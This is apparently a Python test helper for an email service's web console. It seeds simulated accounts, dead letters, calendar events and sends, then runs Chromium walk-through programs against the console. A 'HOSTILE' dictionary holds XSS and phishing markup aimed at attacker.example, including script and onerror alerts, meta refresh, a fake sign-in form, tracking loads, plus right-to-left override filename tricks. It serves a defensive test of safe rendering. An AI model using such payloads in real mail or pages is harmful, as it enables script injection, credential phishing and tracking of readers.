"""The walk through the console: what it meets in the mesh, and Chromium's program."""

import asyncio
import json
import re
import shutil
import subprocess
import tempfile
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import asyncpg

from mailmesh.ingest.v1 import inbox_item_pb2 as items
from mailmesh.processor.v1 import send_service_pb2 as pb2
from services.ingest.store.items import Kind
from tests.factories.receivers import Authority
from tests.mesh.accounts import connect, created_events, new_address, subscribe
from tests.programs.mesh import Mesh, eventually
from tests.security.sides import endpoint, run_of
from tools.generate.protos import ROOT

FOLDER = Path(__file__).parent
TOOLS = ROOT / ".cache/go/bin"
CHROMIUM = shutil.which("chromium") or "chromium"
WALK_SECONDS = 900
LONG = 200
DEAD = "MESSAGE_UNREADABLE"
MANY, MANY_LETTERS = "MESSAGE_TOO_LARGE", 60
"""The reason and the number of the dead letters of the bulk retry."""
ENDS_AFTER = 31
"""An endpoint of the tests' mesh gives up after 30 repetitions."""
BURY = """
INSERT INTO ingest.dead_letters (dead_letter_id, tenant_id, item_id, kind, received_at, content, correlation_id,
  attempts, history, reason, detail, buried_at)
VALUES ($1, $2, $3, $4, now(), $5, $6, 1, '[]', $7, $8, now())
"""
RECONCILE = items.Reconcile(reason=items.RECONCILE_REASON_MANUAL).SerializeToString()
JOIN = "https://meet.example.com/daily"
_DOUBT = """
UPDATE processor.sends SET state = $2, reason = 'SEND_OUTCOME_UNKNOWN', detail = 'The provider did not answer.',
  due_at = NULL, send_at = NULL, submitted_at = now(), submissions = 1
WHERE send_id = $1
"""
# Markup, a turned direction and a subject of a MiB; a page that would like to run, to load and to leave.
HOSTILE = {
    "subject": "<img src=x onerror=alert(1)>\u202egpj.exe\u2066" + "A" * 1_048_576,
    "text": "Hello\u202e<script>alert(1)</script>",
    "html": (
        "<meta http-equiv=refresh content='0;url=https://attacker.example/'><base href=https://attacker.example/>"
        "<script>alert(1); parent.location = 'https://attacker.example/'</script><h1>Hello</h1>"
        "<style>body { background: url(https://attacker.example/s.png) }</style>"
        "<a href=https://attacker.example/ target=_top>go</a>"
        "<img src=https://attacker.example/p.png onerror=alert(1)><iframe src=https://attacker.example/f></iframe>"
        "<form action=https://attacker.example/ method=post><button>Sign in</button></form>"
        "<link rel=dns-prefetch href=//attacker.example><link rel=stylesheet href=https://attacker.example/s.css>"
        "<svg onload=alert(1)></svg><object data=https://attacker.example/o></object>"
    ),
}


def prepared(mesh: Mesh) -> dict[str, Any]:
    """Prepare a mesh for the walk: two accounts to connect, and one that is connected, with a conversation, a dead
    letter, a calendar and two sends.
    """
    address = new_address(mesh, "ms365")
    tenant = connect(mesh, "ms365", address)
    subscribe(mesh, tenant)
    mesh.run("conversations", "enable", tenant, "--address", address)
    mesh.simulator.deliver(address, subject="Where is my parcel?", text="It was due on Monday.")
    asyncio.run(_bury(mesh, tenant, DEAD))
    event = eventually(lambda: created_events(mesh, tenant))[0].mail
    long = _long(mesh)
    # Of another account: the timeline of the first one stays short.
    asyncio.run(_bury(mesh, long["tenant"], MANY, MANY_LETTERS))
    return {
        "url": mesh.ready.http,
        "key": mesh.key,
        "control": mesh.simulator.url,
        "chromium": CHROMIUM,
        "accounts": {provider: new_address(mesh, provider) for provider in ("ms365", "googlews")},
        "tenant": tenant,
        "address": address,
        "dead": {"reason": DEAD},
        "many": {"reason": MANY, "count": MANY_LETTERS},
        "event": event.event_id,
        "correlation": event.correlation_id,
        "run": run_of(mesh, event.event_id),
        "endpoint": endpoint(mesh, tenant),
        "other": _reader(mesh),
        "organisation": _organisation(mesh),
        "tools": str(TOOLS),
        "calendar": _calendar(mesh),
        "sends": _sends(mesh),
        "long": long,
        "hostile": HOSTILE,
        "receiver": "https://receiver.example.com/hooks",
        "identity": _identity(),
    }


def walked(program: str, given: dict[str, Any], *arguments: str) -> list[dict[str, Any]]:
    """Run one of the programs for Chromium, and return its lines: steps, each with its fault, or figures."""
    command = ["node", str(FOLDER / program), *arguments]
    done = subprocess.run(
        command, input=json.dumps(given), capture_output=True, text=True, timeout=WALK_SECONDS, check=False
    )
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


def _calendar(mesh: Mesh) -> dict[str, str]:
    """Connect an account with an online meeting at this hour in its calendar."""
    address = new_address(mesh, "ms365")
    tenant = connect(mesh, "ms365", address, ["mail.read", "calendar.read"])
    (listed,) = json.loads(mesh.run("calendars", "list", tenant, "--json").stdout)
    begins = datetime.now(UTC)
    mesh.simulator.call(
        "POST",
        f"accounts/{address}/calendars/{listed['providerCalendarId']}/events",
        subject="Daily round",
        start=begins.strftime("%Y-%m-%dT%H:%M:%S"),
        end=(begins + timedelta(minutes=30)).strftime("%Y-%m-%dT%H:%M:%S"),
        isOnlineMeeting=True,
        onlineMeetingProvider="teamsForBusiness",
        onlineMeeting={"joinUrl": JOIN},
    )
    return {"tenant": tenant, "join": JOIN}


def _long(mesh: Mesh) -> dict[str, Any]:
    """Connect an account with more mails than a page has room for."""
    address = new_address(mesh, "ms365")
    tenant = connect(mesh, "ms365", address)
    subscribe(mesh, tenant)
    mesh.simulator.generate(address, LONG)
    return {"tenant": tenant, "mails": LONG}


def _identity() -> dict[str, str]:
    """Issue a client certificate for an endpoint, its key, and the key of another one."""
    with tempfile.TemporaryDirectory() as folder:
        authority = Authority(Path(folder))
    (certificate, key), (_, other) = (authority.issue(name) for name in ("mesh.example", "other.example"))
    return {"certificate": certificate, "key": key, "other": other}


def _sends(mesh: Mesh) -> dict[str, str]:
    """Schedule two sends, and leave one as a worker does that got no answer."""
    address = new_address(mesh, "ms365")
    tenant = connect(mesh, "ms365", address, ["mail.read", "mail.send"])
    at = (datetime.now(UTC) + timedelta(days=5)).strftime("%Y-%m-%dT%H:%M:%SZ")
    made = {}
    for subject in ("In doubt", "For later"):
        words = ("send", "--tenant", tenant, "--to", address, "--subject", subject, "--text", "Hello", "--at", at)
        made[subject] = json.loads(mesh.run(*words, "--json").stdout)["sendId"]
    asyncio.run(execute(mesh, "processor", _DOUBT, made["In doubt"], pb2.SEND_STATE_UNCERTAIN))
    return {"tenant": tenant}


async def execute(mesh: Mesh, service: str, statement: str, *values: object) -> None:
    """Run a statement in the database of a service, with its own role."""
    variables = next((mesh.data / "environments").glob(f"{service}*.json"))
    connection = await asyncpg.connect(json.loads(variables.read_text())["MAILMESH_DATABASE_URL"])
    try:
        await connection.execute(statement, *values)
    finally:
        await connection.close()


async def _bury(mesh: Mesh, tenant: str, reason: str, count: int = 1) -> None:
    """Bury items as a worker does that cannot read them; none of the simulated mails is so broken."""
    for _ in range(count):
        ids = [str(uuid.uuid4()) for _ in range(3)]
        values = (ids[0], tenant, ids[1], Kind.RECONCILE, RECONCILE, ids[2], reason, "It is no mail.")
        await execute(mesh, "ingest", BURY, *values)


def newcomer(mesh: Mesh, receiver: str) -> dict[str, Any]:
    """Prepare a mesh for a person who sees it for the first time: two accounts, a receiver, and a dead letter of an
    account that another person has connected.
    """
    tenant = connect(mesh, "ms365", new_address(mesh, "ms365"))
    asyncio.run(_bury(mesh, tenant, DEAD))
    (printed,) = re.findall(r"Console +(\S+)", mesh.log.read_text())
    return {
        "url": mesh.ready.http,
        "printed": printed,
        "key": mesh.key,
        "control": mesh.simulator.url,
        "chromium": CHROMIUM,
        "accounts": {provider: new_address(mesh, provider) for provider in ("ms365", "googlews")},
        "tenant": tenant,
        "dead": {"reason": DEAD},
        "receiver": receiver,
    }


def _reader(mesh: Mesh) -> dict[str, str]:
    """Make a key whose browser is signed out by another one."""
    name = f"Reader {uuid.uuid4().hex[:8]}"
    return {"name": name, "key": mesh.run("keys", "create", name).stdout.strip()}


def _organisation(mesh: Mesh) -> dict[str, str]:
    """Add an administrator and a mailbox of an organisation that has not admitted the app."""
    domain = f"o{uuid.uuid4().hex[:8]}.test"
    administrator, mailbox = f"boss@{domain}", f"desk@{domain}"
    directory = mesh.simulator.add_account("ms365", administrator)["directory"]
    mesh.simulator.add_account("ms365", mailbox)
    return {"directory": directory, "administrator": administrator, "mailbox": mailbox}
